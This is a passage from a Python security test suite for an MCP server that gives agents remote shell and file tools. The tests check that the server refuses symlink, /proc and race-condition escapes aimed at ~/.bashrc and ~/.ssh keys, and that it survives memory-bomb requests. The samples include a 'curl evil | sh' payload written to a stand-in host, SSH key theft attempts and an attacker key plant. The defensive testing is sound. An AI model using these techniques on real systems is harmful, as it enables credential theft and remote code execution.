        await tool_error(s, "file_get", {"session_id": sid, "local": known, "remote": "evil"}, "permission_denied")
        await tool_error(s, "file_get", {"session_id": sid, "local": hard, "remote": "evil"}, "permission_denied")
        check(True, "file_get over the known_hosts file and over the hard link is refused")
        tree = os.path.join(ROOT, ".config")
        await tool_error(s, "file_put", {"session_id": sid, "local": tree, "remote": "t"}, "permission_denied")
        check(True, "a directory holding the key is refused as a whole")
        await ok(s, "session_destroy", {"session_id": sid})
    cli("machine", "remove", "keys-elsewhere")
    check(snapshot(ROOT) == before, "the key, known_hosts and the hard link are unchanged")
    print("attack passed")


async def attack_bashrc():
    """Issue 42, item 4: file_get over ~/.bashrc with `local` not served: refused, directly, via
    a symlinked directory or file in the root; a symlink within the root is replaced, never
    written through."""
    home = fake_home()
    before = snapshot(home)
    link_dir, link_file = os.path.join(ROOT, "homelink"), os.path.join(ROOT, "bashrc-link")
    for p, t in [(link_dir, home), (link_file, os.path.join(home, ".bashrc"))]:
        if not os.path.lexists(p):
            os.symlink(t, p)
    async with server("--machine", MACHINE) as s:
        sid = await session(s)
        await remote_file(s, sid, "payload", "curl evil | sh\n")
        for local in [os.path.join(home, ".bashrc"), os.path.join(link_dir, ".bashrc"), "homelink/.bashrc"]:
            await tool_error(s, "file_get", {"session_id": sid, "local": local, "remote": "payload"}, "permission_denied")
            check(True, f"file_get to {local} is refused")
        await tool_error(s, "file_get", {"session_id": sid, "local": link_file, "remote": "payload"}, "permission_denied")
        check(os.readlink(link_file) == os.path.join(home, ".bashrc"), "a symlink in the root to ~/.bashrc: refused, left as it was")
        inner, target = os.path.join(ROOT, "inner-link"), os.path.join(ROOT, "inner-target.txt")
        with open(target, "w") as f:
            f.write("target\n")
        if not os.path.lexists(inner):
            os.symlink("inner-target.txt", inner)
        await ok(s, "file_get", {"session_id": sid, "local": inner, "remote": "payload"})
        check(not os.path.islink(inner) and open(inner).read() == "curl evil | sh\n" and open(target).read() == "target\n",
              "a symlink within the root is replaced by the download, never written through")
        await ok(s, "session_destroy", {"session_id": sid})
    check(snapshot(home) == before, "~/.bashrc is unchanged")
    print("attack passed")


async def attack_race():
    """A symlink swapped in while calls run: a directory of the root flips between a real
    directory and a symlink to ~/.ssh; no upload ever carries the key, no download lands there."""
    import threading

    home = fake_home()
    before = snapshot(home)
    real = os.path.join(ROOT, "real")
    os.makedirs(real, exist_ok=True)
    with open(os.path.join(real, "id_test"), "w") as f:
        f.write("harmless\n")
    swap = os.path.join(ROOT, "swap")
    stop = threading.Event()

    def flip():
        tmp_link, tmp_dir = swap + ".l", swap + ".d"
        while not stop.is_set():
            try:
                os.symlink(os.path.join(home, ".ssh"), tmp_link)
                os.replace(tmp_link, swap)
                os.unlink(swap)
                os.symlink("real", tmp_dir)
                os.replace(tmp_dir, swap)
            except OSError:
                pass

    t = threading.Thread(target=flip, daemon=True)
    t.start()
    outcomes = {"uploaded": 0, "refused": 0, "downloaded": 0}
    try:
        async with server() as s:
            sid = await session(s)
            await remote_file(s, sid, "planted", "planted\n")
            for i in range(40):
                res = await s.call_tool("file_put", {"session_id": sid, "local": "swap/id_test", "remote": f"up{i}"})
                if res.is_error:
                    outcomes["refused"] += 1
                else:
                    outcomes["uploaded"] += 1
                    r = await ok(s, "file_read", {"session_id": sid, "path": f"up{i}"})
                    assert "PRIVATE-KEY" not in r.structured_content["content"], "the key was uploaded"
                res = await s.call_tool("file_get", {"session_id": sid, "local": f"swap/planted{i}", "remote": "planted"})
                outcomes["downloaded"] += 0 if res.is_error else 1
            await ok(s, "session_destroy", {"session_id": sid})
    finally:
        stop.set()
        t.join()
    check(snapshot(home) == before, f"under a racing symlink swap nothing reached ~/.ssh ({outcomes})")
    print("attack passed")


async def attack_proc():
    """/proc magic links: /proc/self/root spelled out, and a symlink in the root to it."""
    home = fake_home()
    for name, target in [("proc-root", "/proc/self/root"), ("proc-rel", "../" * 12 + "proc/self/root")]:
        p = os.path.join(ROOT, name)
        if not os.path.lexists(p):
            os.symlink(target, p)
    before = snapshot(home)
    async with server() as s:
        sid = await session(s)
        key = os.path.join(home, ".ssh", "id_test")
        for local in ["/proc/self/root" + key, os.path.join(ROOT, "proc-root") + key,
                      "proc-rel" + key, f"/proc/self/root{ROOT}/proc-root{key}"]:
            await tool_error(s, "file_put", {"session_id": sid, "local": local, "remote": "stolen"}, "permission_denied")
            check(True, f"file_put of {local} is refused")
        await remote_file(s, sid, "evil.pub", "ssh-ed25519 AAAA attacker\n")
        await tool_error(s, "file_get", {"session_id": sid, "local": "proc-root" + os.path.join(home, ".ssh", "authorized_keys"), "remote": "evil.pub"}, "permission_denied")
        await ok(s, "session_destroy", {"session_id": sid})
    check(snapshot(home) == before, "nothing read or written through /proc")
    print("attack passed")


async def roots_flag():
    """--root: only beneath the named roots; relative paths from the first; a home directory or
    / refused at start; started in a home without --root, the local file tools say to pass it."""
    home = fake_home()
    a, b = os.path.join(ROOT, "ra"), os.path.join(ROOT, "rb")
    for d in (a, b):
        os.makedirs(d, exist_ok=True)
    with open(os.path.join(b, "in.txt"), "w") as f:
        f.write("in b\n")
    async with server("--root", a, "--root", b, cwd=home) as s:
        sid = await session(s)
        await ok(s, "file_put", {"session_id": sid, "local": os.path.join(b, "in.txt"), "remote": "in.txt"})
        await ok(s, "file_get", {"session_id": sid, "local": "out.txt", "remote": "in.txt"})
        check(open(os.path.join(a, "out.txt")).read() == "in b\n", "two roots; a relative path lands in the first")
        res = await tool_error(s, "file_put", {"session_id": sid, "local": os.path.join(ROOT, "innocent"), "remote": "x"}, "permission_denied")
        check(a in text(res) and b in text(res), "a path outside both names the roots")
        await ok(s, "session_destroy", {"session_id": sid})
    async with server(cwd=home) as s:
        sid = await session(s)
        res = await tool_error(s, "file_put", {"session_id": sid, "local": os.path.join(home, ".bashrc"), "remote": "x"}, "permission_denied")
        check("without --root" in text(res) and "home directory" in text(res), "started in the home without --root: refused, saying to pass --root")
        await ok(s, "session_destroy", {"session_id": sid})
    for bad in ["/", home]:
        out = subprocess.run([BIN, "--state-dir", STATE, "mcp", "--root", bad, "--json"], env=env(),
                             capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
        err = json.loads(out.stdout or out.stderr)["error"]
        check(out.returncode != 0 and err["code"] == "invalid_argument" and "--root" in err["message"],
              f"--root {bad} is refused at start: {err['message']}")
    print("roots passed")


def raw_stdio():
    """Malformed input lines on the server's raw stdio (no SDK in between): each is skipped with a
    note on stderr that gives its size and never its text, and the server keeps serving."""
    import select

    secret = "s3cret-in-a-broken-line"
    errpath = os.path.join(os.path.dirname(STATE), "mcp-raw-stderr.log")
    with open(errpath, "w") as errlog:
        p = subprocess.Popen(
            [BIN, "--state-dir", STATE, "mcp"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=errlog, env=env(),
        )

    def send(line):
        p.stdin.write(line.encode() + b"\n")
        p.stdin.flush()

    def recv(timeout=30):
        ready, _, _ = select.select([p.stdout], [], [], timeout)
        return json.loads(p.stdout.readline()) if ready else None

    send(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "raw", "version": "0"}}}))
    check(recv()["id"] == 1, "initialize answered on raw stdio")
    send(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}))
    bad = ["garbage", '{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"content":"' + secret]
    for line in bad:
        send(line)
    # A line split across two writes is one line.
    p.stdin.write(b'{"jsonrpc":"2.0","id":2,')
    p.stdin.flush()
    time.sleep(0.2)
    send('"method":"tools/list"}')
    reply = recv()
    check(reply is not None and reply.get("id") == 2 and "tools" in reply.get("result", {}),
          "after malformed lines the server answers the next request")
    p.stdin.close()
    p.wait(30)
    log = open(errpath).read()
    notes = [l for l in log.splitlines() if "is not JSON" in l]
    check(len(notes) == len(bad), f"one note per malformed line on stderr: {notes}")
    check(f"of {len(bad[0])} bytes" in notes[0], "the note gives the line's size")
    check(secret not in log and "garbage" not in log, "the note never holds the line's text")
    print("raw passed")


def memory():
    """Issue 42, item 9: three 14 MiB lines of nested empty arrays in a call's `_meta`, on the
    raw stdio. Each is refused with a JSON-RPC error naming the bound, before it is parsed; the
    server's peak memory stays small and it answers the next request."""
    import select

    errpath = os.path.join(os.path.dirname(STATE), "mcp-memory-stderr.log")
    with open(errpath, "w") as errlog:
        # Unbuffered, so that select() on stdout sees every reply not yet read.
        p = subprocess.Popen([BIN, "--state-dir", STATE, "mcp"], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, stderr=errlog, env=env(), cwd=ROOT, bufsize=0)

    def send(data):
        p.stdin.write(data + b"\n")
        p.stdin.flush()

    def recv(timeout=120):
        ready, _, _ = select.select([p.stdout], [], [], timeout)
        return json.loads(p.stdout.readline()) if ready else None

    def mem(key):
        for line in open(f"/proc/{p.pid}/status"):
            if line.startswith(key + ":"):
                return int(line.split()[1]) // 1024  # MiB
        raise AssertionError(key)

    send(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "raw", "version": "0"}}}).encode())
    check(recv()["id"] == 1, "initialize answered")
    send(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}).encode())
    send(json.dumps({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}).encode())
    check("tools" in recv()["result"], "tools/list answered")
    before = mem("VmRSS")
    size = 14 << 20
    n = size // 3
    payloads = {
        10: b"[" + b"[]," * n + b"[]]",                      # wide: millions of empty arrays
        11: b"[" * (size // 2) + b"]" * (size // 2),       # deep: one nest of millions
        12: b"[" + b"[[]]," * (size // 5) + b"[]]",        # wide and nested
    }
    for i, meta in payloads.items():
        head = b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"machine_list","arguments":{},"_meta":{"x":' % i
        send(head + meta + b"}}}")
    codes = {}
    for _ in payloads:
        r = recv()
        check(r is not None and "error" in r, f"a 14 MiB request is answered with an error: {str(r)[:300]}")
        codes[r["id"]] = r["error"]["data"]["code"]
        check(r["error"]["code"] == -32600 and "bound" in r["error"]["message"], r["error"]["message"])
    check(codes == {10: "request_too_many_values", 11: "request_too_deep", 12: "request_too_many_values"}, f"each names its bound: {codes}")
    send(json.dumps({"jsonrpc": "2.0", "id": 3, "method": "tools/list"}).encode())
    r = recv()
    check(r is not None and r["id"] == 3 and "tools" in r["result"], "the server keeps serving")
    peak, after = mem("VmHWM"), mem("VmRSS")
    print(json.dumps({"rss_before_mib": before, "rss_after_mib": after, "peak_mib": peak}), flush=True)
    check(peak < before + 160, f"peak memory {peak} MiB stays within 160 MiB of {before} MiB (three 14 MiB lines)")
    p.stdin.close()
    p.wait(30)
    print("memory passed")


async def busy():
    """Issue 42, item 9: tool calls in flight are bounded; past the bound a call is answered
    `busy` at once (retryable) and the server keeps serving."""
    async with server() as s:
        sid = await session(s)
        _, rec = await exec_(s, sid, "sleep 60", background=True)
        cid = rec["command_id"]
        waits = [s.call_tool("command_wait", {"session_id": sid, "command_id": cid, "timeout_s": 6}) for _ in range(40)]
        results = await asyncio.gather(*waits)
        busy_ = [r for r in results if r.is_error]
        check(len(results) - len(busy_) == 32, f"32 calls are served at once ({len(results) - len(busy_)} were)")
        check(all("[busy]" in text(r) and r.structured_content["error"]["retryable"] for r in busy_),
              f"the other {len(busy_)} are answered busy, retryable: {text(busy_[0]) if busy_ else ''}")
        await ok(s, "command_stop", {"session_id": sid, "command_id": cid})
        await ok(s, "session_destroy", {"session_id": sid})
        check(True, "and the server serves on")
    print("busy passed")


async def bench(n):
    async with server() as s:
        r = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
        sid = r.structured_content["session_id"]
        for _ in range(20):
            await exec_(s, sid, "true")
        times = []
        ids = set()
        for i in range(n):
            t = time.perf_counter()
            res = await s.call_tool("session_exec", {"session_id": sid, "command": f"echo {i}"})
            times.append((time.perf_counter() - t) * 1000)
            c = res.structured_content
            assert (c["exit_code"], c["status"], c["stdout"]) == (0, "completed", f"{i}\n"), c
            ids.add(c["command_id"])
        await ok(s, "session_destroy", {"session_id": sid})
    times.sort()
    print(json.dumps({
        "machine": MACHINE,
        "calls": n,
        "distinct_commands": len(ids),
        "median_ms": round(times[n // 2], 2),
        "p90_ms": round(times[int(n * 0.9)], 2),
        "min_ms": round(times[0], 2),
    }))


async def crowd(n, at_once):
    """`n` sessions created, given three commands each and destroyed through one server, `at_once`
    at a time (the server keeps a control client per session): every result exact, every
    command's end seen well within the 60 s wait chunk a missed wake-up would cost."""
    gate = asyncio.Semaphore(at_once)
    slow = []

    async def one(s, i):
        async with gate:
            r = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
            sid = r.structured_content["session_id"]
            for k in range(3):
                t = time.perf_counter()
                _, c = await exec_(s, sid, f"echo crowd-{i}-{k}; (exit {k})")
                took = time.perf_counter() - t
                assert (c["exit_code"], c["stdout"]) == (k, f"crowd-{i}-{k}\n"), c
                if took > 25:
                    slow.append(f"session {i} command {k}: {took:.1f} s")
            await ok(s, "session_destroy", {"session_id": sid})
            return sid

    async with server() as s:
        # Bounded: a hang fails the check instead of stalling the suite.
        sids = await asyncio.wait_for(asyncio.gather(*(one(s, i) for i in range(n))), 600)
    check(not slow, f"every command's end seen within 25 s ({slow})")
    check(len(set(sids)) == n, f"{n} distinct sessions created and destroyed")
    print(json.dumps({"sessions": sids}))
    print("crowd passed")


if __name__ == "__main__":
    if sys.argv[1] == "suite":
        asyncio.run(suite())
    elif sys.argv[1] == "guard":
        asyncio.run(local_guard())
    elif sys.argv[1] == "memory":
        memory()
    elif sys.argv[1] == "busy":
        asyncio.run(busy())
    elif sys.argv[1] == "roots":
        asyncio.run(roots_flag())
    elif sys.argv[1].startswith("attack-"):
        asyncio.run(globals()["attack_" + sys.argv[1][len("attack-"):].replace("-", "_")]())
    elif sys.argv[1] == "raw":
        raw_stdio()
    elif sys.argv[1] == "crowd":
        asyncio.run(crowd(int(sys.argv[2]), int(sys.argv[3])))
    else:
        asyncio.run(bench(int(sys.argv[2])))
